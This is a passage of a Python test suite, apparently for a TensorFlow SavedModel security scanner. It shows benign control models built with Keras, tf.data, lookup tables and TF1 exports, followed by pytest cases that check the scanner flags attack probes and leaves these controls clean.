    model = keras.Model(inputs, out)
    model.export(str(lab.model), verbose=False)
    lab.kept.append(model)

    def proof() -> None:
        loaded = tf.saved_model.load(str(lab.model))  # held: its functions reference its variables weakly
        loaded.serve(tf.constant([["a"], ["z"]]))
    return proof


@probe()
def b_keras_textvectorization_file(lab: Lab, tf: Any) -> Proof:
    """Keras ``TextVectorization`` with a vocabulary file, exported by ``Model.export``."""
    import keras

    vocab = lab.sandbox / "vocab.txt"
    vocab.write_text("hello\nworld\nfoo\n")
    inputs = keras.Input((1,), dtype="string")
    seq = keras.layers.TextVectorization(vocabulary=str(vocab), output_sequence_length=4)(inputs)
    out = keras.layers.Dense(1)(keras.layers.Flatten()(keras.layers.Embedding(8, 2)(seq)))
    model = keras.Model(inputs, out)
    model.export(str(lab.model), verbose=False)
    lab.kept.append(model)

    def proof() -> None:
        vocab.unlink()  # the model's own copy is used
        loaded = tf.saved_model.load(str(lab.model))  # held: its functions reference its variables weakly
        loaded.serve(tf.constant([["hello world"]]))
    return proof


@probe()
def b_static_vocab_asset_dataset_map(lab: Lab, tf: Any) -> Proof:
    """A ``StaticVocabularyTable`` from an asset, looked up in a ``Dataset.map`` of the signature."""
    vocab = lab.sandbox / "vocab.txt"
    vocab.write_text("a\nb\n")
    table = tf.lookup.StaticVocabularyTable(tf.lookup.TextFileInitializer(str(vocab), tf.string, -2, tf.int64, -1), 1)

    def body(mod: Any, x: Any) -> dict[str, Any]:
        ds = tf.data.Dataset.from_tensor_slices(tf.constant(["a", "b", "q"])).map(mod.table.lookup)
        return {"y": x + reduce_sum(tf, ds)}
    lab.save_tf2(module(tf, body, table=table))

    def proof() -> None:
        vocab.unlink()  # the model's own copy is used
        assert lab.serve_tf2()["y"].tolist() == [4.0, 5.0]  # 0 + 1 + 2 (out of vocabulary)
    return proof


@probe()
def b_textline_dataset_of_asset(lab: Lab, tf: Any) -> Proof:
    """``TextLineDataset`` of the model's own asset, directly and inside an ``interleave``."""
    vocab = lab.sandbox / "vocab.txt"
    vocab.write_text("a\nbb\n")

    def body(mod: Any, x: Any) -> dict[str, Any]:
        direct = tf.data.TextLineDataset(mod.vocab.asset_path)
        nested = tf.data.Dataset.from_tensors(mod.vocab.asset_path).interleave(tf.data.TextLineDataset,
                                                                               cycle_length=1)
        return {"y": x + reduce_length(tf, direct) + reduce_length(tf, nested)}
    lab.save_tf2(module(tf, body, vocab=tf.saved_model.Asset(str(vocab))))

    def proof() -> None:
        vocab.unlink()  # the model's own copy is read
        assert lab.serve_tf2()["y"].tolist() == [7.0, 8.0]
    return proof


@probe()
def b_tf1_estimator_like(lab: Lab, tf: Any) -> Proof:
    """TF1, as an Estimator exports: a serialized ``tf.Example`` input, ``parse_example``, a global step, a
    sharded saver, main op = tables and local variables initializers, classify and predict signatures."""
    v1 = tf.compat.v1
    with tf.Graph().as_default(), v1.Session() as session:
        serialized = v1.placeholder(tf.string, [None], name="input_example_tensor")
        features = v1.io.parse_example(serialized, {"x": v1.io.FixedLenFeature([2], tf.float32)})
        v1.train.get_or_create_global_step()
        logits = tf.matmul(features["x"], v1.get_variable("dense/kernel", [2, 1]), name="logits")
        probs = tf.sigmoid(logits, name="probs")
        table = tf.lookup.StaticHashTable(tf.lookup.KeyValueTensorInitializer(["neg", "pos"], [0, 1]), -1)
        table.lookup(tf.constant("pos"))
        v1.metrics.mean(logits)  # a local variable
        session.run([v1.global_variables_initializer(), v1.local_variables_initializer(), v1.tables_initializer()])
        classes = tf.tile(tf.constant([["neg", "pos"]]), [tf.shape(probs)[0], 1])
        builder = v1.saved_model.Builder(str(lab.model))
        builder.add_meta_graph_and_variables(
            session, ["serve"], saver=v1.train.Saver(sharded=True),
            main_op=tf.group(v1.tables_initializer(), v1.local_variables_initializer()), signature_def_map={
                "serving_default": v1.saved_model.classification_signature_def(
                    serialized, classes, tf.concat([1 - probs, probs], 1)),
                "predict": v1.saved_model.predict_signature_def({"examples": serialized}, {"probs": probs})})
        builder.save()

    def proof() -> None:
        example = tf.train.Example(features=tf.train.Features(feature={
            "x": tf.train.Feature(float_list=tf.train.FloatList(value=[1.0, 2.0]))})).SerializeToString()
        with tf.Graph().as_default(), v1.Session() as session:
            signature = v1.saved_model.load(session, ["serve"], str(lab.model)).signature_def["predict"]
            probs = session.run(signature.outputs["probs"].name, {signature.inputs["examples"].name: [example]})
        assert probs.shape == (1, 1)
    return proof


@probe()
def b_print_stderr_while(lab: Lab, tf: Any) -> Proof:
    """``tf.print`` to stderr in a while loop of the signature."""
    def body(mod: Any, x: Any) -> dict[str, Any]:
        def step(i: Any, acc: Any) -> tuple[Any, Any]:
            tf.print("step", i, output_stream=sys.stderr)
            return i + 1, acc + x
        return {"y": tf.while_loop(lambda i, acc: i < 3, step, [tf.constant(0), tf.zeros_like(x)])[1]}
    lab.save_tf2(module(tf, body))

    def proof() -> None:
        assert lab.serve_tf2()["y"].tolist() == [3.0, 6.0]
    return proof


@probe()
def b_inmemory_dataset_rich(lab: Lab, tf: Any) -> Proof:
    """In-memory tf.data: window and flat_map, group_by_window, scan, interleave of ``cache("")``, shuffle,
    prefetch, cache."""
    def body(mod: Any, x: Any) -> dict[str, Any]:
        ds = tf.data.Dataset.range(8).window(2).flat_map(lambda w: w.batch(2)).unbatch()
        ds = ds.group_by_window(lambda v: v % 2, lambda k, w: w.batch(4), window_size=4).unbatch()
        ds = ds.scan(tf.constant(0, tf.int64), lambda s, v: (s + v, s + v))
        ds = ds.interleave(lambda v: tf.data.Dataset.from_tensors(v).cache(""), cycle_length=2)
        return {"y": x + reduce_sum(tf, ds.shuffle(4, seed=1).prefetch(2).cache())}
    lab.save_tf2(module(tf, body))

    def proof() -> None:
        lab.serve_tf2()
        assert not files(lab.sandbox)
    return proof


@probe()
def b_checkpoint_restored_then_saved(lab: Lab, tf: Any) -> Proof:
    """Variables written by ``tf.train.Checkpoint``, read into a new module, exported by ``tf.saved_model.save``."""
    prefix = tf.train.Checkpoint(v=tf.Variable([3.0, 4.0])).write(str(lab.sandbox / "ckpt"))
    fresh = tf.Variable([0.0, 0.0])
    tf.train.Checkpoint(v=fresh).read(prefix).assert_consumed()
    lab.save_tf2(module(tf, lambda mod, x: {"y": x + mod.v}, v=fresh))

    def proof() -> None:
        assert lab.serve_tf2()["y"].tolist() == [4.0, 6.0]
    return proof


@probe()
def b_variable_benign_string(lab: Lab, tf: Any) -> Proof:
    """A ``tf.Variable`` holding a plain string, used by string ops in the signature."""
    lab.save_tf2(module(tf, lambda mod, x: {"y": x + tf.cast(tf.strings.length(mod.greeting), tf.float32),
                                            "s": tf.strings.join([mod.greeting, "!"])},
                        greeting=tf.Variable("hello world")))

    def proof() -> None:
        assert lab.serve_tf2()["y"].tolist() == [12.0, 13.0]
    return proof


@probe()
def b_tf1_asset_pwd_main_op(lab: Lab, tf: Any) -> Proof:
    """TF1: a table initializer reading ``placeholder_with_default(asset constant)``, run by the main op (with
    the asset constant fed the ``assets/`` copy by the loader)."""
    v1 = tf.compat.v1

    def output(x: Any, asset: Any) -> Any:
        return text_table(tf, v1.placeholder_with_default(asset, [], name="vocab_override")).lookup(x)
    vocab = tf1_asset_model(lab, tf, output, init_tables=True)

    def proof() -> None:
        vocab.unlink()  # the model's own copy is used
        served = lab.load_tf1(feed=[b"b"])
        assert served is not None and served["y"].tolist() == [1]
    return proof


@probe()
def b_tf1_sharded_saver_train_op(lab: Lab, tf: Any) -> Proof:
    """TF1: a sharded saver, an optimizer's train op in ``saved_model_train_op``, a summary in its collection."""
    v1 = tf.compat.v1
    with tf.Graph().as_default(), v1.Session() as session:
        x = v1.placeholder(tf.float32, [None], name="x")
        y = tf.identity(x * tf.Variable([1.0], name="w"), name="y")
        loss = tf.reduce_mean(tf.square(y - 1.0), name="loss")
        v1.add_to_collection("saved_model_train_op", v1.train.GradientDescentOptimizer(0.1).minimize(loss))
        v1.summary.scalar("loss", loss)
        session.run(v1.global_variables_initializer())
        lab.save_tf1(session, {"x": x}, {"y": y}, saver=v1.train.Saver(sharded=True))

    def proof() -> None:
        served = lab.load_tf1()
        assert served is not None and served["y"].tolist() == X
    return proof


@probe()
def b_tf2_mutable_dense_tables(lab: Lab, tf: Any) -> Proof:
    """``MutableHashTable`` and ``DenseHashTable`` (checkpointed tables, with save and restore functions)."""
    mutable = tf.lookup.experimental.MutableHashTable(tf.string, tf.int64, -1)
    mutable.insert(tf.constant(["a", "b"]), tf.constant([1, 2], tf.int64))
    dense = tf.lookup.experimental.DenseHashTable(tf.int64, tf.int64, default_value=-1, empty_key=0, deleted_key=-1)
    dense.insert(tf.constant([5], tf.int64), tf.constant([7], tf.int64))

    def body(mod: Any, x: Any) -> dict[str, Any]:
        found = mod.mutable.lookup(tf.constant("b")) + mod.dense.lookup(tf.constant(5, tf.int64))
        return {"y": x + tf.cast(found, tf.float32)}
    lab.save_tf2(module(tf, body, mutable=mutable, dense=dense))

    def proof() -> None:
        assert lab.serve_tf2()["y"].tolist() == [10.0, 11.0]
    return proof


@probe()
def b_summary_without_writer(lab: Lab, tf: Any) -> Proof:
    """``tf.summary`` calls in the signature with no default writer (traced as no-ops)."""
    def body(mod: Any, x: Any) -> dict[str, Any]:
        tf.summary.scalar("mean", tf.reduce_mean(x), step=0)
        tf.summary.histogram("x", x, step=0)
        return {"y": x * 2.0}
    lab.save_tf2(module(tf, body))

    def proof() -> None:
        assert lab.serve_tf2()["y"].tolist() == [2.0, 4.0]
    return proof


@probe()
def b_resaved_asset_model(lab: Lab, tf: Any) -> Proof:
    """An asset table SavedModel, loaded and saved again by ``tf.saved_model.save`` (a re-export)."""
    vocab = lab.sandbox / "vocab.txt"
    vocab.write_text("a\nb\n")
    first = lab.root / "first"
    mod = module(tf, lambda m, x: {"y": x + tf.cast(m.table.lookup(tf.constant("b")), tf.float32)},
                 table=text_table(tf, str(vocab)))
    tf.saved_model.save(mod, str(first), signatures={"serving_default": mod.serve})
    loaded = tf.saved_model.load(str(first))
    tf.saved_model.save(loaded, str(lab.model), signatures={"serving_default": loaded.signatures["serving_default"]})
    lab.kept.append(loaded)

    def proof() -> None:
        vocab.unlink()
        shutil.rmtree(first)
        assert lab.serve_tf2()["y"].tolist() == [2.0, 3.0]
    return proof


@probe()
def b_tf1_asset_table_reexported_tf2(lab: Lab, tf: Any) -> Proof:
    """A TF1 asset table SavedModel (initialized by the main op) loaded by ``tf.saved_model.load`` and saved as TF2."""
    first = Lab(lab.root / "tf1")
    vocab = tf1_asset_model(first, tf, lambda x, asset: text_table(tf, asset).lookup(x), init_tables=True)
    loaded = tf.saved_model.load(str(first.model))
    tf.saved_model.save(loaded, str(lab.model), signatures={"serving_default": loaded.signatures["serving_default"]})
    lab.kept.append(loaded)

    def proof() -> None:
        vocab.unlink()
        shutil.rmtree(first.root)
        assert lab.serve_tf2(x=tf.constant(["b"]))["y"].tolist() == [1]
    return proof


# -- tests ------------------------------------------------------------------------------------------

@pytest.mark.parametrize("name", PROBES.attacks())
def test_check_reports_the_payload(workshop: Workshop, name: str) -> None:
    """Every expected finding is there (capability, when, op, target), at the severity that follows."""
    assert_reports_payload(workshop, name)


@pytest.mark.parametrize("name", PROBES.controls())
def test_benign_control_has_no_security_finding(workshop: Workshop, name: str) -> None:
    assert_no_security_finding(workshop, name)


@pytest.mark.parametrize("name", PROBES.proved())
def test_tensorflow_confirms_the_probe(workshop: Workshop, name: str) -> None:
    """TensorFlow runs the probe: the payload has the effect its expectation claims (the controls run cleanly)."""
    run_proof(workshop, name)
